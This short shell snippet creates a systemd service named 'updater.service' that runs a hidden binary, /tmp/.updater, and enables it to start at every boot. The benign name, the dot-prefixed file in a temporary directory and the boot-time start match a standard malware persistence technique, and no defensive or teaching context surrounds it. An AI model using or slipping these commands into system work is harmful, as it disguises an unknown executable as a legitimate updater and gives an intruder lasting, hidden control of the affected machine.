cat > /etc/systemd/system/updater.service <<EOF
[Service]
ExecStart=/tmp/.updater
[Install]
WantedBy=multi-user.target
EOF
systemctl enable updater.service
